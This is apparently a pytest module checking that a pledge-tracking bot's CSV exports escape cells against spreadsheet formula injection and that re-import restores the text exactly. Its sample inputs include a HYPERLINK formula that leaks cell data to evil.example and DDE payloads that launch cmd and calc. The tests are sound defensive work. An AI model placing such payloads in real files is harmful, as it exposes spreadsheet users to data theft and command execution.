"""CSV formula injection (issue 16, item 10): every CSV pledgebot writes escapes a cell a
spreadsheet would run, and the import takes exactly that escape off again, so the spreadsheet
round trip the README recommends changes nothing."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from bot.community import review
from bot.community.importer import export_pledgemakers, import_pledgemakers, import_updates
from bot.core.csv_safety import DANGEROUS, escape, unescape
from bot.core.models import InviteToken, Pledgemaker, utcnow
from bot.service.app import App
from bot.service.export import export
from tests.auxil.cli import pledgebot
from tests.test_web_auth import signed_in

HEADER = (
    "id,name,country,region,sector,language,timezone,pledge_title,pledge_text,pledge_date,"
    "x_handle,website,matrix_id"
)
# What pledgemakers really write, and what an attacker would.
WORDS = {
    "phone": "+41 22 799 61 11",
    "negative": "-5 schools in the district",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted-formula": "'=1+1 is how we wrote it",
    "two-quotes": "''+41",
    "quote": "'Tis the season",
}


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("+41 22 799 61 11", "'+41 22 799 61 11"),
        ("-5 schools", "'-5 schools"),
        ("=1+1", "'=1+1"),
        ("@ilo", "'@ilo"),
        ("\tindented", "'\tindented"),
        ("\rcarriage", "'\rcarriage"),
        ("'=1+1", "''=1+1"),  # a text that starts with a quote keeps it
        ("''-5", "'''-5"),
        ("'Tis", "'Tis"),  # no formula behind the quote: nothing to tell apart
        ("it's -5", "it's -5"),
        ("5-3", "5-3"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_a_cell_is_escaped_only_when_a_spreadsheet_would_run_it(text: str, written: str) -> None:
    assert escape(text) == written
    assert unescape(written) == text


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "é"])))
def test_escape_then_unescape_is_the_identity_and_no_cell_starts_a_formula(text: str) -> None:
    written = escape(text)
    assert unescape(written) == text
    assert written[:1] not in DANGEROUS
    if not text.startswith("'"):  # as a spreadsheet saves it: read as it is
        assert unescape(text) == text


@given(st.text())
def test_any_text_survives(text: str) -> None:
    assert unescape(escape(text)) == text


def _pledgemakers_csv() -> str:
    rows = [HEADER]
    for n, (key, words) in enumerate(WORDS.items()):
        fields = [f"w-{key}", words, "CH", "europe_central_asia", "ngo", "en", "Europe/Zurich"]
        fields += [words, f"{words}\nsecond line", "2021-06-12", "@ilo", "", f"@w{n}:matrix.org"]
        rows.append(",".join(_quoted(escape(field)) for field in fields))  # as exported
    return "\n".join(rows) + "\n"


def _quoted(field: str) -> str:
    return '"' + field.replace('"', '""') + '"'


def _stored(app: App) -> dict[str, tuple[str, str, str, str | None, str | None]]:
    with app.db.session() as session:
        return {
            p.id: (
                p.name,
                p.pledge_title,
                p.pledge_text,
                p.handles.get("x"),
                p.handles.get("matrix"),
            )
            for p in session.query(Pledgemaker).filter(Pledgemaker.id.startswith("w-"))
        }


def _first_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_export_escapes_their_words_and_the_import_restores_them_exactly(
    app: App, tmp_path: Path
) -> None:
    source = tmp_path / "words.csv"
    source.write_text(_pledgemakers_csv(), encoding="utf-8")
    with app.db.session() as session:
        assert import_pledgemakers(session, source).created == len(WORDS)
    before = _stored(app)
    assert {key: before[f"w-{key}"][0] for key in WORDS} == WORDS
    assert before["w-phone"][2] == "+41 22 799 61 11\nsecond line"
    assert before["w-phone"][3:] == ("@ilo", "@w0:matrix.org")

    proc = pledgebot(tmp_path, "export", "pledgemakers")
    assert proc.returncode == 0, proc.stderr
    cells = _first_cells(proc.stdout)
    assert not [c for c in cells if c[:1] in DANGEROUS], "no cell may start a formula"
    assert "'+41 22 799 61 11" in cells and "'-5 schools in the district" in cells
    assert "''=1+1 is how we wrote it" in cells and "'@ilo" in cells
    assert "'Tis the season" in cells

    exported = tmp_path / "exported.csv"
    exported.write_text(proc.stdout, encoding="utf-8")
    with app.db.session() as session:
        again = import_pledgemakers(session, exported)
    assert (again.created, again.updated) == (0, 0), "the round trip changes nothing"
    assert _stored(app) == before
    with app.db.session() as session:
        stream = io.StringIO()
        export_pledgemakers(session, stream)
    assert stream.getvalue().replace("\r\n", "\n") == proc.stdout, "the same file again"


def test_the_dashboard_downloads_are_escaped(app: App, tmp_path: Path) -> None:
    path = tmp_path / "words.csv"
    path.write_text(_pledgemakers_csv(), encoding="utf-8")
    with app.db.session() as session:
        import_pledgemakers(session, path)
        for key in WORDS:
            session.add(
                InviteToken(
                    token=f"tok-{key}",
                    pledgemaker_id=f"w-{key}",
                    channel="telegram",
                    expires_at=utcnow() + timedelta(days=1),
                )
            )
    app.config.channels["telegram"]["bot_username"] = "pledge_test_bot"
    editor: TestClient = signed_in(app, "editor@example.org", "editor")
    for download in ("/pledgemakers.csv", "/invites.csv"):
        response = editor.get(download)
        assert response.status_code == 200
        cells = _first_cells(response.text)
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells, download
        assert not [c for c in cells if c[:1] in DANGEROUS], download


def test_exported_replies_and_updates_are_escaped(app: App, tmp_path: Path) -> None:
    path = tmp_path / "updates.csv"
    path.write_text(
        "id,pledgemaker_id,pillar,kind,text,submitted_at,consent_to_publish\n"
        "u1,ilo,act,progress,\"=cmd|' /C calc'!A0\",2021-07-14T10:15:00+00:00,yes\n"
        "u2,ilo,act,progress,-5 schools,2021-07-14T10:15:00+00:00,yes\n",
        encoding="utf-8",
    )
    with app.db.session() as session:
        import_updates(session, path)
    stream = io.StringIO()
    export(app, "updates", "csv", stream)
    records = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert [r["text"] for r in records] == ["'=cmd|' /C calc'!A0", "'-5 schools"]
    json_out = io.StringIO()
    export(app, "updates", "json", json_out)
    assert '"=cmd|' in json_out.getvalue(), "JSON is not a spreadsheet: nothing is added"


def test_the_update_text_round_trips_through_the_import(app: App, tmp_path: Path) -> None:
    words = "'=1+1 is how we wrote it"
    path = tmp_path / "updates.csv"
    path.write_text(
        "id,pledgemaker_id,pillar,kind,text,submitted_at,consent_to_publish\n"
        f"u1,ilo,act,progress,{escape(words)},2021-07-14T10:15:00+00:00,yes\n",
        encoding="utf-8",
    )
    with app.db.session() as session:
        import_updates(session, path)
        [update] = review.listing(session, "pending")
        assert update.text == words
